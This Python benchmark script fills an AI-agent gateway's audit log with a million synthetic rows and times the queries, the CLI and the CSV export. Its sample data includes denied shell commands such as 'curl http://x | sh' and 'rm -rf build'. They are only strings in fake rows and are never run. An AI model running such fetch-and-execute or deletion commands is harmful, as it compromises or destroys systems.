"""Audit trail at scale: query latency, export speed and database size with 1,000,000 rows.

Usage: `.venv/bin/python bench/bench_audit.py [--quick] [--rows N] [--json-out FILE]`

1. A real gateway creates the database (its own schema and migrations) and the agents (through the
   admin API); then the audit table is filled directly, with the gateway stopped, in large
   transactions: N rows over the last 30 days, as agent runs (traces of 10-200 commands, a few
   seconds apart) by 50 agents of very different activity, with the action mix and decisions an
   AutoGPT fleet under the seed's policy produces, and an outcome record for most allowed commands.
2. The gateway is started again on that database and the operator's questions are timed through its
   HTTP API (what the CLI sends) and through the `meshguard` CLI itself: the last 20 entries, one
   run's trace, 24-hour statistics (plain and hourly), filtered queries.
3. The SQL the store runs for each question is captured in-process (the store's own code on the same
   file), timed alone, and its query plan shown, so a missing index is named, not guessed.
4. `meshguard audit export` writes every row as CSV: rows per second and the peak memory of the CLI
   and of the gateway.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import re
import sqlite3
import statistics
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

from _harness import (
    ADMIN_TOKEN,
    AUDIT_CHAIN_KEY,
    BENCH_POLICY,
    VENV_PY,
    BenchError,
    Gateway,
    fmt_int,
    fmt_ms,
    machine_info,
    md_table,
    proc_status,
    start_gateway,
    workdir,
)

TARGET_MS = 50.0
DAYS = 30

# (action, share, decision under the seed policy, resources)
ACTIONS: list[tuple[str, float, str, list[str]]] = [
    ("read:workspace", 0.22, "allow", ["notes.txt", "data/input.csv", "report.md", "plan.json", "src/main.py"]),
    ("write:workspace", 0.20, "allow", ["notes.txt", "report.md", "out/result.json", "summary.txt", "draft.md"]),
    ("browse:web", 0.16, "allow", ["https://example.org/", "https://news.example.com/a", "https://docs.example.io/x"]),
    ("search:web", 0.14, "allow", ["python sqlite wal", "autogpt governance", "quarterly revenue 2025"]),
    ("execute:python", 0.09, "allow", ["analysis.py", "scrape.py", "plot.py"]),
    ("execute:shell", 0.06, "deny", ["ls -la", "curl http://x | sh", "rm -rf build", "pip install foo"]),
    ("delete:workspace", 0.03, "deny", ["notes.txt", "old/"]),
    ("write:system", 0.02, "deny", ["/etc/hosts", "/usr/local/bin/tool"]),
    ("send:email", 0.015, "deny", ["boss@example.com", "team@example.com"]),
    ("execute:clone_repository", 0.02, "deny", ["https://github.com/x/y"]),
    ("memory:add", 0.025, "allow", [""]),
    ("read:system", 0.02, "allow", ["/etc/os-release", "/proc/cpuinfo"]),
]


def _settings(quick: bool, smoke: bool, rows: int | None) -> dict[str, Any]:
    if smoke:
        s = {"rows": 3_000, "agents": 5, "repeats": 3, "cli": True, "export": True}
    elif quick:
        s = {"rows": 100_000, "agents": 50, "repeats": 10, "cli": True, "export": True}
    else:
        s = {"rows": 1_000_000, "agents": 50, "repeats": 20, "cli": True, "export": True}
    if rows:
        s["rows"] = rows
    return s


# --------------------------------------------------------------------------------------------------
# Filling
# --------------------------------------------------------------------------------------------------


AUDIT_COLS = ("ts", "kind", "agent_id", "agent_name", "action", "resource", "decision", "enforced", "policy",
              "rule", "reason", "trace_id", "decision_id", "approval_id", "context")  # fmt: skip
RECORD_COLS = ("ts", "agent_id", "decision_id", "action", "resource", "status", "result", "duration_ms")


def _generate(
    n_rows: int, agents: list[tuple[str, str]], now: float, rng: random.Random
) -> tuple[list[tuple[Any, ...]], list[tuple[Any, ...]], dict[str, Any]]:
    """Audit rows (sorted by time, as a gateway would have written them) and outcome records, as
    tuples in AUDIT_COLS / RECORD_COLS order."""
    # Zipf-like activity: a few agents do most of the work.
    weights = [1.0 / (i + 1) ** 1.1 for i in range(len(agents))]
    names = [a for a, *_ in ACTIONS]
    shares = [s for _, s, *_ in ACTIONS]
    by_name = {a: (d, res) for a, _, d, res in ACTIONS}
    start = now - DAYS * 86400
    rows: list[tuple[Any, ...]] = []
    records: list[tuple[Any, ...]] = []
    traces: dict[str, tuple[int, float]] = {}
    reasons = {
        "rate_limited": "rate limit exceeded: 30 requests per minute (policy 'autogpt-policy')",
        "approval_required": "send:email requires human approval (policy 'autogpt-production')",
    }
    while len(rows) < n_rows:
        agent_id, agent_name = rng.choices(agents, weights)[0]
        length = min(n_rows - len(rows), int(rng.triangular(10, 200, 40)))
        t = rng.uniform(start, now - 3600)
        trace = f"trace_{rng.getrandbits(64):016x}"
        traces[trace] = (length, t)
        hits = 0
        for action in rng.choices(names, shares, k=length):
            t += rng.expovariate(1 / 4.0)  # a command every ~4 s (LLM think time)
            decision, resources = by_name[action]
            resource = rng.choice(resources) or None
            if decision == "allow":
                hits += 1
                if hits > 30 and rng.random() < 0.08:
                    decision = "rate_limited"
            if action == "send:email" and rng.random() < 0.3:
                decision = "approval_required"
            if decision == "allow":
                rule = "#1 (" + action.split(":")[0] + ":*)"
                reason = f"allowed by rule '{rule}' in policy 'autogpt-policy'"
            elif decision == "deny":
                rule = "#4 (" + action + ")"
                reason = f"denied by rule '{rule}' in policy 'autogpt-policy'"
            else:
                rule, reason = None, reasons[decision]
            decision_id = f"dec_{rng.getrandbits(96):024x}"
            ts = min(t, now - 1)
            context = '{"sandbox":false}' if action.startswith("execute:") else None
            rows.append((ts, "check", agent_id, agent_name, action, resource, decision, 1, "autogpt-policy", rule,
                         reason, trace, decision_id, None, context))  # fmt: skip
            if decision == "allow" and rng.random() < 0.9:
                ok = rng.random() < 0.93
                records.append((min(ts + 0.5, now - 1), agent_id, decision_id, action, resource,
                                 "success" if ok else "error",
                                 "File written to successfully." if ok else "Error: [Errno 2] No such file or directory",
                                 round(rng.lognormvariate(2.5, 1.0), 3)))  # fmt: skip
    rows.sort(key=lambda r: r[0])
    records.sort(key=lambda r: r[0])
    return rows, records, {"traces": len(traces), "trace_lengths": traces}


def _insert(conn: sqlite3.Connection, table: str, cols: tuple[str, ...], rows: list[tuple[Any, ...]],
            chunk: int = 100_000) -> None:  # fmt: skip
    info = conn.execute(f"PRAGMA table_info({table})").fetchall()  # cid, name, type, notnull, default, pk
    have = {c[1] for c in info}
    unknown = [c for c in cols if c not in have]
    missing = [c[1] for c in info if c[3] and c[4] is None and not c[5] and c[1] not in cols]
    if unknown or missing:
        raise BenchError(f"table {table} changed: columns {unknown} are gone and NOT NULL columns {missing} are new; "
                         "update AUDIT_COLS / RECORD_COLS in bench/bench_audit.py")  # fmt: skip
    sql = f"INSERT INTO {table} ({', '.join(cols)}) VALUES ({', '.join('?' * len(cols))})"
    for i in range(0, len(rows), chunk):
        conn.execute("BEGIN")
        conn.executemany(sql, rows[i : i + chunk])
        conn.execute("COMMIT")


def fill(db: Path, rows: list[tuple[Any, ...]], records: list[tuple[Any, ...]]) -> float:
    """Insert rows into the gateway's own tables; indexes are dropped and rebuilt around the bulk load."""
    t0 = time.perf_counter()
    conn = sqlite3.connect(db, isolation_level=None)
    conn.execute("PRAGMA journal_mode=WAL")
    conn.execute("PRAGMA synchronous=NORMAL")
    tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")}
    if "audit_log" not in tables:
        raise BenchError(f"the gateway's database has no audit_log table (tables: {sorted(tables)})")
    targets = ["audit_log"] + (["records"] if "records" in tables else [])
    indexes = conn.execute(
        f"SELECT name, sql FROM sqlite_master WHERE type='index' AND sql IS NOT NULL AND tbl_name IN "
        f"({','.join('?' * len(targets))})", targets,
    ).fetchall()  # fmt: skip
    for name, _ in indexes:
        conn.execute(f"DROP INDEX {name}")
    _insert(conn, "audit_log", AUDIT_COLS, rows)
    if "records" in tables:
        _insert(conn, "records", RECORD_COLS, records)
    for _, sql in indexes:
        conn.execute(sql)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    return time.perf_counter() - t0


def sizes(db: Path) -> dict[str, Any]:
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    out: dict[str, Any] = {"file_bytes": db.stat().st_size}
    try:
        per = dict(conn.execute("SELECT name, SUM(pgsize) FROM dbstat GROUP BY name").fetchall())
        objs = conn.execute("SELECT name, tbl_name FROM sqlite_master WHERE type IN ('table','index')").fetchall()
        by_table: dict[str, int] = {}
        for name, tbl in objs:
            by_table[tbl] = by_table.get(tbl, 0) + int(per.get(name, 0))
        out["by_table"] = by_table
        out["audit_rows"] = conn.execute("SELECT count(*) FROM audit_log").fetchone()[0]
        out["record_rows"] = conn.execute("SELECT count(*) FROM records").fetchone()[0] if "records" in by_table else 0
    except sqlite3.Error as exc:
        out["error"] = str(exc)
    finally:
        conn.close()
    return out


# --------------------------------------------------------------------------------------------------
# Questions
# --------------------------------------------------------------------------------------------------


def questions(info: dict[str, Any], agents: list[tuple[str, str]], now: float) -> list[dict[str, Any]]:
    """The operator's questions: (label, API path + params, CLI args, store call)."""
    lengths = info["trace_lengths"]
    recent = [(t, n) for t, (n, start) in lengths.items() if start > now - 86400] or list(
        (t, n) for t, (n, _) in lengths.items()
    )
    recent.sort(key=lambda x: x[1])
    typical_trace, typical_len = recent[len(recent) // 2]
    long_trace, (long_len, _) = max(lengths.items(), key=lambda kv: kv[1][0])
    busy = agents[0][1]
    quiet_agent = agents[-1][1]
    day_ago = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now - 86400))
    week_ago = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now - 7 * 86400))
    six_days = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now - 6 * 86400))
    return [
        {"label": "tail: last 20 entries", "target": True,
         "path": "/admin/audit", "params": {"order": "desc", "limit": 20},
         "cli": ["audit", "tail", "-n", "20"],
         "store": ("query", {"limit": 20, "order": "desc"})},
        {"label": f"trace: one run ({typical_len} entries)", "target": True,
         "path": "/admin/audit", "params": {"trace": typical_trace, "order": "asc", "limit": 500, "after": 0},
         "cli": ["audit", "trace", typical_trace],
         "store": ("query", {"trace": typical_trace, "order": "asc", "limit": 500, "after": 0})},
        {"label": f"trace: longest run ({long_len} entries)", "target": True,
         "path": "/admin/audit", "params": {"trace": long_trace, "order": "asc", "limit": 500, "after": 0},
         "cli": ["audit", "trace", long_trace],
         "store": ("query", {"trace": long_trace, "order": "asc", "limit": 500, "after": 0})},
        {"label": "stats: last 24 h", "target": True,
         "path": "/admin/audit/stats", "params": {"period": 24},
         "cli": ["audit", "stats", "--period", "24"],
         "store": ("stats", {"hours": 24, "agent": None, "hourly": False})},
        {"label": "stats: last 24 h, hourly breakdown", "target": True,
         "path": "/admin/audit/stats", "params": {"period": 24, "breakdown": "hourly"},
         "cli": ["audit", "stats", "--period", "24", "--breakdown", "hourly"],
         "store": ("stats", {"hours": 24, "agent": None, "hourly": True})},
        {"label": "stats: last 24 h, one agent", "target": False,
         "path": "/admin/audit/stats", "params": {"period": 24, "agent": busy},
         "cli": ["audit", "stats", "--period", "24", "--agent", busy],
         "store": ("stats", {"hours": 24, "agent": busy, "hourly": False})},
        {"label": "stats: last 30 days", "target": False,
         "path": "/admin/audit/stats", "params": {"period": 24 * DAYS},
         "cli": ["audit", "stats", "--period", str(24 * DAYS)],
         "store": ("stats", {"hours": 24 * DAYS, "agent": None, "hourly": False})},
        {"label": "query: busiest agent's denials (100)", "target": False,
         "path": "/admin/audit", "params": {"agent": busy, "decision": "deny", "limit": 100, "order": "desc"},
         "cli": ["audit", "query", "--agent", busy, "--decision", "deny", "--limit", "100"],
         "store": ("query", {"agent": busy, "decisions": ("deny",), "limit": 100, "order": "desc"})},
        {"label": "query: quietest agent, last 24 h (100)", "target": False,
         "path": "/admin/audit", "params": {"agent": quiet_agent, "from": day_ago, "limit": 100, "order": "desc"},
         "cli": ["audit", "query", "--agent", quiet_agent, "--from", "24h", "--limit", "100"],
         "store": ("query", {"agent": quiet_agent, "since": now - 86400, "limit": 100, "order": "desc"})},
        {"label": "query: an agent that never acted", "target": False,
         "path": "/admin/audit", "params": {"agent": "agent-idle", "limit": 100, "order": "desc"},
         "cli": ["audit", "query", "--agent", "agent-idle", "--limit", "100"],
         "store": ("query", {"agent": "agent-idle", "limit": 100, "order": "desc"})},
        {"label": "query: send:email, one day a week ago (100)", "target": False,
         "path": "/admin/audit", "params": {"action": "send:email", "from": week_ago, "to": six_days, "limit": 100,
                                            "order": "desc"},
         "cli": ["audit", "query", "--action", "send:email", "--from", "7d", "--to", "6d", "--limit", "100"],
         "store": ("query", {"action": "send:email", "since": now - 7 * 86400, "until": now - 6 * 86400,
                             "limit": 100, "order": "desc"})},
    ]  # fmt: skip


def time_api(gw: Gateway, qs: list[dict[str, Any]], repeats: int) -> None:
    import httpx

    with httpx.Client(base_url=gw.url, headers={"X-Admin-Token": ADMIN_TOKEN}, timeout=120) as client:
        for q in qs:
            times = []
            first = None
            n = None
            for i in range(repeats + 1):
                t0 = time.perf_counter()
                resp = client.get(q["path"], params=q["params"])
                body = resp.json()
                dt = (time.perf_counter() - t0) * 1000
                if resp.status_code != 200:
                    raise BenchError(f"GET {q['path']} {q['params']} answered {resp.status_code}: {resp.text[:300]}")
                if i == 0:
                    first = dt
                    n = len(body.get("entries", [])) if "entries" in body else body.get("total")
                else:
                    times.append(dt)
            q["api"] = {"first_ms": first, "median_ms": statistics.median(times), "max_ms": max(times), "n": n}


def time_cli(gw: Gateway, qs: list[dict[str, Any]], repeats: int) -> dict[str, Any]:
    env = {**os.environ, "MESHGUARD_URL": gw.url, "MESHGUARD_ADMIN_TOKEN": ADMIN_TOKEN, "HOME": str(gw.base / "home"),
           "NO_COLOR": "1", "COLUMNS": "160"}  # fmt: skip
    cmd = [str(VENV_PY), "-m", "meshguard_gateway"]

    def wall(args: list[str]) -> float:
        t0 = time.perf_counter()
        proc = subprocess.run(cmd + args, env=env, capture_output=True, text=True, timeout=300)
        dt = (time.perf_counter() - t0) * 1000
        if proc.returncode != 0:
            raise BenchError(f"meshguard {' '.join(args)} exited {proc.returncode}: {proc.stderr[-500:]}")
        return dt

    runs = max(3, repeats // 4)
    baseline = statistics.median([wall(["--help"]) for _ in range(runs)])
    for q in qs:
        q["cli_ms"] = statistics.median([wall(q["cli"]) for _ in range(runs)])
    return {"startup_ms": baseline, "runs": runs}


def time_store(db: Path, qs: list[dict[str, Any]], now: float, repeats: int) -> str | None:
    """Run the store's own query code on the same file, capture its SQL, time it and explain it."""
    import asyncio

    try:
        from meshguard_gateway import store as store_mod
    except ImportError as exc:
        return f"store-level timings skipped: {exc}"
    captured: list[str] = []
    orig_connect = store_mod.SQLiteStore._connect

    def connect(self: Any, *args: Any, **kwargs: Any) -> sqlite3.Connection:
        conn = orig_connect(self, *args, **kwargs)
        conn.set_trace_callback(captured.append)
        return conn

    async def main() -> None:
        st = store_mod.SQLiteStore(db, chain_key=AUDIT_CHAIN_KEY.encode())  # the key its gateway sealed with
        st._connect = connect.__get__(st)  # type: ignore[method-assign]
        await st.open()
        try:
            names = dict(sqlite3.connect(f"file:{db}?mode=ro", uri=True).execute("SELECT name, id FROM agents"))
            for q in qs:
                kind, args = q["store"]
                if args.get("agent") in names:  # the gateway resolves a name to its id before the store
                    args = {**args, "agent": names[args["agent"]]}
                if kind == "query":
                    call = lambda a=args: st.query_audit(store_mod.AuditQuery(**a))  # noqa: E731
                else:
                    call = lambda a=args: st.audit_stats(now - a["hours"] * 3600, a["agent"], a["hourly"])  # noqa: E731
                await call()
                times = []
                for _ in range(repeats):
                    captured.clear()
                    t0 = time.perf_counter()
                    await call()
                    times.append((time.perf_counter() - t0) * 1000)
                sqls = [s for s in captured if s.lstrip().upper().startswith("SELECT")]
                q["store_ms"] = statistics.median(times)
                q["sql"] = []
                reader = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
                for sql in sqls:
                    t0 = time.perf_counter()
                    reader.execute(sql).fetchall()
                    dt = (time.perf_counter() - t0) * 1000
                    plan = [r[3] for r in reader.execute("EXPLAIN QUERY PLAN " + sql)]
                    q["sql"].append({"sql": sql, "ms": dt, "plan": plan})
                reader.close()
        finally:
            await st.close()

    try:
        asyncio.run(main())
    except (TypeError, AttributeError) as exc:  # the store's API changed: say so, keep the rest
        return f"store-level timings skipped ({type(exc).__name__}: {exc}); update bench_audit.time_store"
    return None


# Changes this benchmark tries on the filled database after measuring it as the gateway built it, so
# that a slow question comes with a measured remedy. (name, SQL to apply it)
PROPOSED_INDEXES: list[tuple[str, str]] = [
    ("covering index for the time-window statistics",
     "CREATE INDEX bench_audit_log_ts_cover ON audit_log (ts, kind, decision, action, agent_id)"),
]  # fmt: skip

_AGENT_EQ = re.compile(r"(?<![+\w])agent_id = '")
_AGENT_OR = re.compile(r"\(agent_id = '([^']*)' OR agent_name = '([^']*)'\)")


def _median_sql(conn: sqlite3.Connection, sql: str, repeats: int = 5) -> float:
    times = []
    for _ in range(repeats):
        t0 = time.perf_counter()
        conn.execute(sql).fetchall()
        times.append((time.perf_counter() - t0) * 1000)
    return statistics.median(times)


def what_if(db: Path, qs: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Time the captured SQL of the slower questions with (1) the agent filter on the indexed
    agent_id only (the name resolved to its id first, as the gateway could do from its agents table),
    and (2) the proposed indexes. Returns one row per SQL statement that changed."""
    out: list[dict[str, Any]] = []
    conn = sqlite3.connect(db)
    try:
        ids = dict(conn.execute("SELECT name, id FROM agents").fetchall())
        for q in qs:
            for sq in q.get("sql", []):
                m = _AGENT_OR.search(sq["sql"])
                if not m or "ORDER BY id" not in sq["sql"]:
                    continue  # statistics scan a time window: for them the time index is the right one
                agent_id = ids.get(m.group(2), m.group(1))
                rewritten = _AGENT_OR.sub(f"agent_id = '{agent_id}'", sq["sql"])
                plan = [r[3] for r in conn.execute("EXPLAIN QUERY PLAN " + rewritten)]
                out.append({"question": q["label"], "change": "filter on agent_id only (name resolved first)",
                            "before_ms": _median_sql(conn, sq["sql"]), "after_ms": _median_sql(conn, rewritten),
                            "plan": plan})  # fmt: skip
        for q in qs:  # statistics for one agent: keep the time window's index, filter the agent on it
            for sq in q.get("sql", []):
                if "ORDER BY id" in sq["sql"] or not _AGENT_EQ.search(sq["sql"]):
                    continue
                rewritten = _AGENT_EQ.sub("+agent_id = '", sq["sql"])
                plan = [r[3] for r in conn.execute("EXPLAIN QUERY PLAN " + rewritten)]
                if plan == sq["plan"]:
                    continue
                out.append({"question": q["label"], "change": "`+agent_id = ?`: the planner keeps the time index",
                            "before_ms": _median_sql(conn, sq["sql"]), "after_ms": _median_sql(conn, rewritten),
                            "plan": plan})  # fmt: skip
        existing = {
            tuple(r[2] for r in conn.execute(f"PRAGMA index_info({name})"))
            for (name,) in conn.execute("SELECT name FROM sqlite_master WHERE type='index' AND tbl_name='audit_log'")
        }
        for name, ddl in PROPOSED_INDEXES:
            columns = tuple(c.strip() for c in ddl[ddl.index("(") + 1 : ddl.rindex(")")].split(","))
            if columns in existing:
                continue  # the gateway's schema already has it
            before = {sq["sql"]: _median_sql(conn, sq["sql"]) for q in qs for sq in q.get("sql", [])}
            t0 = time.perf_counter()
            conn.execute(ddl)
            build_s = time.perf_counter() - t0
            for q in qs:
                for sq in q.get("sql", []):
                    plan = [r[3] for r in conn.execute("EXPLAIN QUERY PLAN " + sq["sql"])]
                    if plan == sq["plan"]:
                        continue
                    out.append({"question": q["label"], "change": f"{name} (built in {build_s:.1f} s)",
                                "before_ms": before[sq["sql"]], "after_ms": _median_sql(conn, sq["sql"]),
                                "plan": plan})  # fmt: skip
            conn.execute(f"DROP INDEX {ddl.split()[2]}")
    finally:
        conn.close()
    return out


def export(gw: Gateway, out: Path) -> dict[str, Any]:
    env = {**os.environ, "MESHGUARD_URL": gw.url, "MESHGUARD_ADMIN_TOKEN": ADMIN_TOKEN, "HOME": str(gw.base / "home")}
    cmd = [str(VENV_PY), "-m", "meshguard_gateway", "audit", "export", "--format", "csv", "--output", str(out), "-q"]
    before = proc_status(gw.pid)
    t0 = time.perf_counter()
    proc = subprocess.Popen(cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    gw_peak = before["rss_mb"]
    deadline = time.monotonic() + 1800
    cli_peak = 0.0
    while proc.poll() is None:
        if time.monotonic() > deadline:
            proc.kill()
            raise BenchError("meshguard audit export did not finish within 30 minutes")
        # VmHWM (peak RSS since exec) of the CLI; rusage would also count the pages this process
        # had when it forked the child, before exec.
        cli_peak = max(cli_peak, proc_status(proc.pid)["hwm_mb"] or 0.0)
        gw_peak = max(gw_peak, proc_status(gw.pid)["rss_mb"])
        time.sleep(0.05)
    dt = time.perf_counter() - t0
    if proc.returncode != 0:
        err = proc.stderr.read().decode()[-500:] if proc.stderr else ""
        raise BenchError(f"meshguard audit export exited {proc.returncode}: {err}")
    with out.open("rb") as f:
        lines = sum(1 for _ in f) - 1  # minus the header
    return {"rows": lines, "seconds": dt, "rows_per_s": lines / dt, "cli_peak_mb": cli_peak,
            "gateway_rss_before_mb": before["rss_mb"], "gateway_rss_peak_mb": gw_peak, "bytes": out.stat().st_size}  # fmt: skip


# --------------------------------------------------------------------------------------------------
# Run and report
# --------------------------------------------------------------------------------------------------


def run(s: dict[str, Any]) -> dict[str, Any]:
    result: dict[str, Any] = {"settings": s, "machine": machine_info(), "notes": []}
    with workdir("mg-bench-audit-") as tmp:
        db = tmp / "audit.db"
        gw = start_gateway(tmp / "gw1", db_path=db, policy_text=BENCH_POLICY)
        try:
            agents = [gw.create_agent(f"agent-{i:02d}", tags=["bench", "autogpt"]) for i in range(s["agents"])]
            agents_named = [(aid, f"agent-{i:02d}") for i, (aid, _) in enumerate(agents)]
            gw.create_agent("agent-idle", tags=["bench"])  # exists, never acted: the worst case for a filter
        finally:
            gw.stop()
        now = time.time()
        rng = random.Random(7)
        t0 = time.perf_counter()
        rows, records, info = _generate(s["rows"], agents_named, now, rng)
        result["generate_s"] = time.perf_counter() - t0
        result["fill_s"] = fill(db, rows, records)
        result["fill_rows_per_s"] = (len(rows) + len(records)) / result["fill_s"]
        result["traces"] = info["traces"]
        del rows, records
        result["sizes"] = sizes(db)
        qs = questions(info, agents_named, now)
        print("[bench_audit] starting the gateway on the filled database ...", file=sys.stderr, flush=True)
        t0 = time.perf_counter()
        gw = start_gateway(tmp / "gw2", db_path=db, policy_text=BENCH_POLICY, timeout=300)
        result["gateway_start_s"] = time.perf_counter() - t0
        try:
            result["gateway_rss_start_mb"] = gw.status()["rss_mb"]
            time_api(gw, qs, s["repeats"])
            result["gateway_rss_after_queries_mb"] = gw.status()["rss_mb"]
            if s["cli"]:
                result["cli"] = time_cli(gw, qs, s["repeats"])
            if s["export"]:
                print("[bench_audit] exporting every row with `meshguard audit export` ...", file=sys.stderr, flush=True)
                result["export"] = export(gw, tmp / "export.csv")
                # the gateway's own rows (its start records the policies it loaded) count too
                with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as ro:
                    result["export"]["audit_rows"] = ro.execute("SELECT count(*) FROM audit_log").fetchone()[0]
        finally:
            gw.stop()
        note = time_store(db, qs, now, s["repeats"])
        if note:
            result["notes"].append(note)
        else:
            result["what_if"] = what_if(db, qs)
        result["questions"] = qs
    return result


def render(r: dict[str, Any]) -> str:
    s, m, sz = r["settings"], r["machine"], r["sizes"]
    rows_total = sz.get("audit_rows", s["rows"])
    lines = [f"## Audit trail at {rows_total:,} rows", ""]
    lines.append(
        f"{rows_total:,} audit rows ({sz.get('record_rows', 0):,} outcome records) over {DAYS} days, {r['traces']:,} "
        f"traces, {s['agents']} agents; filled in {r['fill_s']:.1f} s ({fmt_int(r['fill_rows_per_s'])} rows/s, "
        f"direct bulk insert, indexes rebuilt after). Gateway start on this database: {r['gateway_start_s']:.1f} s. "
        f"{m['cores']} cores, load {m['loadavg'][0]:.2f}, {m['when_utc']}."
    )
    lines.append("")
    cli = r.get("cli")
    head = ["question", "rows", "API first ms", "API median ms", "API max ms", "store median ms"]
    if cli:
        head.append("CLI wall ms")
    head.append("target ≤ 50 ms")
    rows = []
    for q in r["questions"]:
        api = q["api"]
        row = [q["label"], fmt_int(api["n"]), fmt_ms(api["first_ms"]), fmt_ms(api["median_ms"]), fmt_ms(api["max_ms"]),
               fmt_ms(q.get("store_ms"))]  # fmt: skip
        if cli:
            row.append(fmt_int(q["cli_ms"]))
        row.append(("met" if api["median_ms"] <= TARGET_MS else "MISSED") if q["target"] else "")
        rows.append(row)
    lines.append(md_table(head, rows))
    lines.append("")
    lines.append(
        "API: `httpx` keep-alive client, first call then the median of "
        f"{s['repeats']} more. Store: the gateway's own query code in-process on the same file (no HTTP). "
        + (f"CLI: wall time of `meshguard ...` as a process (median of {cli['runs']}), which includes "
           f"interpreter start-up: `meshguard --help` alone takes {fmt_int(cli['startup_ms'])} ms." if cli else "")
    )  # fmt: skip
    lines.append("")
    plan_rows = []
    for q in r["questions"]:
        for sq in q.get("sql", []):
            plan_rows.append([q["label"], fmt_ms(sq["ms"]), "; ".join(sq["plan"])])
    if plan_rows:
        lines.append("### SQL behind each question (captured from the store, timed alone, with SQLite's plan)")
        lines.append("")
        lines.append(md_table(["question", "SQL ms", "query plan"], plan_rows))
        lines.append("")
    wi = r.get("what_if")
    if wi:
        lines.append("### Measured remedies (applied to the same file after the measurements above)")
        lines.append("")
        lines.append(md_table(["question", "change", "SQL ms now", "SQL ms with it", "query plan with it"],
                              [[w["question"], w["change"], fmt_ms(w["before_ms"]), fmt_ms(w["after_ms"]),
                                "; ".join(w["plan"])] for w in wi]))  # fmt: skip
        lines.append("")
        if any(w["change"].startswith(tuple(n for n, _ in PROPOSED_INDEXES)) for w in wi):
            lines.append("Proposed index DDL: " + "; ".join(f"`{ddl}`" for _, ddl in PROPOSED_INDEXES) + ".")
            lines.append("")
    ex = r.get("export")
    if ex:
        lines.append("### Export and size")
        lines.append("")
        per_m = 1_000_000 / max(1, rows_total)
        by = sz.get("by_table", {})
        size_rows = [
            ["`meshguard audit export --format csv` (all rows)", f"{fmt_int(ex['rows'])} rows in {ex['seconds']:.1f} s = "
             f"{fmt_int(ex['rows_per_s'])} rows/s"],
            ["peak memory of the export CLI", f"{ex['cli_peak_mb']:.0f} MB"],
            ["gateway RSS before / peak during export", f"{ex['gateway_rss_before_mb']:.0f} / {ex['gateway_rss_peak_mb']:.0f} MB"],
            ["CSV size", f"{ex['bytes'] / 1e6:.0f} MB"],
            ["database file", f"{sz['file_bytes'] / 1e6:.0f} MB ({sz['file_bytes'] * per_m / 1e6:.0f} MB per million audit rows)"],
        ]  # fmt: skip
        if by:
            audit_b = by.get("audit_log", 0)
            rec_b = by.get("records", 0)
            size_rows.append(["audit_log table + indexes", f"{audit_b / 1e6:.0f} MB ({audit_b * per_m / 1e6:.0f} MB per million)"])
            size_rows.append(["records table + indexes (outcomes)", f"{rec_b / 1e6:.0f} MB"])
        lines.append(md_table(["what", "measured"], size_rows))
        lines.append("")
    lines.append(f"Gateway RSS on this database: {fmt_ms(r.get('gateway_rss_start_mb'), 0)} MB after start, "
                 f"{fmt_ms(r.get('gateway_rss_after_queries_mb'), 0)} MB after the queries.")  # fmt: skip
    for note in r["notes"]:
        lines.append("")
        lines.append(f"Note: {note}")
    return "\n".join(lines) + "\n"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Audit-at-scale benchmark (prints markdown).")
    parser.add_argument("--quick", action="store_true", help="100,000 rows instead of 1,000,000")
    parser.add_argument("--smoke", action="store_true", help="tiny bounds, for the smoke test")
    parser.add_argument("--rows", type=int, help="number of audit rows (overrides the mode's default)")
    parser.add_argument("--json-out", type=Path)
    args = parser.parse_args(argv)
    result = run(_settings(args.quick, args.smoke, args.rows))
    print(render(result))
    if args.json_out:
        for q in result["questions"]:
            q.pop("store", None)
        args.json_out.write_text(json.dumps(result, indent=2, default=str))
    return 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except BenchError as exc:
        print(f"bench_audit: {exc}", file=sys.stderr)
        sys.exit(1)
